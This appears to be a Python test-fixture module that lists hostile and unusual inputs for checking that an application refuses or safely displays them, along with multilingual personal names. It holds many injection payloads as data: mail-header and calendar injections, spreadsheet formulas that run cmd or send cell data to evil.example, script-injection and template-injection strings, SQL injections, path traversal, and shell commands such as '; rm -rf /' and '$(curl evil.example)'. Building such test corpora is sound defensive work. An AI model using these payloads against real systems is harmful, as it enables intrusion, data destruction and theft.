"""Texts that attack whoever shows them, and names that only look strange. All invented here."""

import itertools

_CONTROLS = [chr(code) for code in range(0x20) if chr(code) not in "\t\n"]
_CONTROLS += [chr(code) for code in range(0x7F, 0xA0)]
_SEPARATORS = ["\u2028", "\u2029"]
_OVERRIDES = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
_BROKEN = ["\ufeff", "\ud800", "\udbff", "\udc00", "\udfff"]

REFUSED = [f"Amina{each}Diop" for each in (*_CONTROLS, *_SEPARATORS, *_OVERRIDES, *_BROKEN)]
"""Refused in every field: no honest text has them."""

_HEADERS = [
    "Amina\r\nBcc: all@victim.example", "Amina\nBcc: all@victim.example", "A\r\n\r\n<html>",
    "A\nSubject: changed", "A\n\n--boundary", "A\tB", "\r\nX-Injected: 1", "A\n.\nQUIT",
]  # fmt: skip
BROKEN_LINES = [*_HEADERS, *(f"x{number}\n{each.strip()}" for number, each in enumerate(_HEADERS))]
"""Refused in fields of one line: with line breaks or tabs in them."""

_MAIL = [
    "Éric <minister@gov.example>", '"Minister" <minister@gov.example>', "minister@gov.example",
    "=?utf-8?B?PGJAYy5leGFtcGxlPg==?=", "=?utf-8?q?=0D=0ABcc=3A_a=40b?=", "Undisclosed recipients:;",
    "a@b.example, c@d.example", "(comment) name", "name;role", "<>", "<", ">", "@", ":", ";", ",", "\\",
    '"', "''", "`", "name@", "Bcc: all@victim.example", "%0d%0aBcc: all@victim.example", "\\r\\nBcc: x",
    "=?utf-8?q?=E2=80=AE?=", "Content-Type: text/html", "--=_boundary--", "From: you", ".", "..",
]  # fmt: skip
_CALENDAR = [
    "END:VEVENT", "BEGIN:VALARM", "A\\nATTENDEE:mailto:x@victim.example", "A;CN=X:mailto:y@z.example",
    'A";ROLE=CHAIR;X="', "A:mailto:x@victim.example", "^n^'^^", "\\;\\,\\\\", "DTSTART:20200101T000000Z",
    "METHOD:CANCEL", "X-WR-CALNAME:evil", "A,B;C", "RRULE:FREQ=SECONDLY", "\\N\\n", "A=B;C=D",
    "ORGANIZER:mailto:x@victim.example", "ATTACH:file:///etc/passwd", "TRIGGER:-PT0S", "\\", "\\\\",
    "A" * 74 + "é", "é" * 38, "ع" * 40, "x" * 200, "😀" * 19, "END:VCALENDAR",
]  # fmt: skip
_SHEETS = [
    f"{start}{rest}"
    for start in "=+-@|%"
    for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "SUM(A1)")
] + ["'=1+1", " =1+1", '"=1+1"', 'DDE("cmd";"/C calc")', "0x1F", "1E5", "007", "TRUE", "1/2"]  # fmt: skip
_PAGES = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)", "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>", "<iframe src=//evil.example>", "<style>*{display:none}</style>",
    "</title><script>x</script>", "</textarea><b>", "<!-- -->", "<![CDATA[x]]>", "&lt;b&gt;", "&#x3c;b&#x3e;",
    "<meta http-equiv=refresh content=0>", "<base href=//evil.example>", "<form action=//evil.example>",
    "<input autofocus onfocus=x>", "<math><mi xlink:href=x>", "<b", "<b>", "</b>", "<x y=", "&", "&amp;", "&nbsp;",
    "<body onload=x>", "<object data=x>", "<embed src=x>", "<link rel=stylesheet href=//evil.example>",
    "data:text/html,<script>x</script>", "<marquee>", "<plaintext>", "<noscript><p title='</noscript><b>'>",
    "\u003cscript\u003e", "%3Cscript%3E", "<scr<script>ipt>", "<IMG SRC=`x`>", "hx-get=/ hx-trigger=load",
    "<div hx-post='/v1/events'>", "<template><b>", "<slot>", "<video><source onerror=x>", "<a\x20href=x>",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "{% raw %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}",
    "{{ cycler.__init__.__globals__ }}", "{% for x in y %}", "{#", "#}", "*{7*7}", "@{7*7}", "{0}", "{x}",
    "{event.__class__}", "%s%s%s%n", "%(x)s", "$(id)", "`id`", "[[7*7]]", "{{constructor.constructor('x')()}}",
    '#eval("1+1")', '#read("/etc/passwd")', '#image("x")', "$ x^2 $", "\\input{x}", "\\write18{id}", "= Heading",
    "#set page(width: 1pt)", "*bold*", "_it_", "<label>", "@ref", "// comment", "/* c */",
]  # fmt: skip
_SQL = [
    "' OR '1'='1", "'; DROP TABLE person; --", '" OR ""="', "1; DELETE FROM event", "') OR ('1'='1",
    "' UNION SELECT hash FROM token --", "\\'; DROP TABLE event; --", "%' OR 1=1 --", "_", "%", "admin'--",
    "';WAITFOR DELAY '0:0:5'--", "'||pg_sleep(5)||'", "$$;DROP TABLE event;$$", ":x", ":event_id", "?", "$1", "NULL",
    "'; ATTACH DATABASE 'x' AS x; --", "1 AND 1=1", "Robert'); DROP TABLE registration;--", "\\x00", "\\u0000",
    '{"$gt": ""}', "x' AND '1'='2", "-- comment", "/*!50000 x */", "' HAVING 1=1 --", "ORDER BY 100",
]  # fmt: skip
_SYSTEM = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd", "CON", "nul.txt",
    "; rm -rf /", "| cat /etc/passwd", "&& id", "$(curl evil.example)", "-rf", "--help", "~root", "*",
    "${jndi:ldap://evil.example/x}", "() { :; }; id", "http://169.254.169.254/", "\\\\evil.example\\share",
    "__proto__", "constructor", "toString", "undefined", "null", "NaN", "Infinity", "true", "[]", "{}", "[object Object]",
]  # fmt: skip
_ODD = [
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯A", "\u200fمرحبا\u200f", "\u200eleft\u200e", "a\u200bb", "ﷺ", "ﬁ", "½", "Ⅷ", "ａｂｃ", "𝔘𝔫𝔦", "🏳️‍🌈", "👩‍👩‍👧‍👦", "ß", "İ", "ı",
    "ǆ", "Å", "Å", "؀", "۝", "\u00ad soft", "́", "a\u0338", "💩" * 30, "١٢٣", "１２３", "‐‑‒–—―", "“quoted”",
    "\u3000wide\u3000", "㊙", "\U000e0041", "\u2062", "\ufff9", "\ufffd", "\U0010ffff",
]  # fmt: skip

TEXTS = [*_MAIL, *_CALENDAR, *_SHEETS, *_PAGES, *_TEMPLATES, *_SQL, *_SYSTEM, *_ODD]
"""Taken where a text is expected, and shown as what they are, without any effect."""

CORPUS = [*REFUSED, *BROKEN_LINES, *TEXTS]


def _pairs(given: str, family: str) -> list[str]:
    return [
        f"{one} {other}" for one, other in itertools.product(given.split("|"), family.split("|"))
    ]


NAMES = [
    *_pairs("محمد|فاطمة|عبد الرحمن|نور الهدى|أحمد|مريم|خالد", "الأنصاري|بن يوسف|السعيد|أبو زيد|الطيّب|حسن"),
    *_pairs("Éléonore|François|Anaïs|Joël|Maëlle|Noël", "N'Guessan|d'Ávila|Lefèvre|Gaüzère|Brou-Koné|Œhler"),
    *_pairs("İpek|Şükrü|Çağla|Ömer|Gülşen|Işıl", "Yılmazoğlu|Çağlayan|Öztürk|Ünal|Şimşek|Güneş"),
    *_pairs("علی‌رضا|زهرا|پریسا|گلناز|محمدحسین", "نوری|کریم‌پور|یزدانی|چراغی|ژاله‌فر"),
    *_pairs("نور جہاں|عائشہ|ذوالفقار|حمیرا|اسد", "بیگم|صدیقی|قریشی|ٹھاکر|گیلانی"),
    *_pairs("Ɗan|Ƙasim|Ƴar|Hauwa'u|Ɓala", "Ƙofar Mata|Ɗantata|Sa'idu|Ɓello|Ƴan Awaki"),
    "O’Connor", "Mam̃adou Bâ", "أ. د. هالة السعيد", "Nguyễn Thị Ánh", "X Æ", "Li", "Ng", "Wolfeschlegelstein-Müller",
    "Jean-Pierre de la Tour d'Auvergne", "Sultan bin Salman Al Saud", "Dr. Ayşe-Nur Çelik", "María José Ñáñez",
    "Abdul-Qādir al-Jazā’irī", "Ĝoĵo Ĉapo", "Þóra Æðarsdóttir", "Ağasəf Əliyev", "Қасым Тоқаев", "Ӯрозбек Ҷӯраев",
]  # fmt: skip
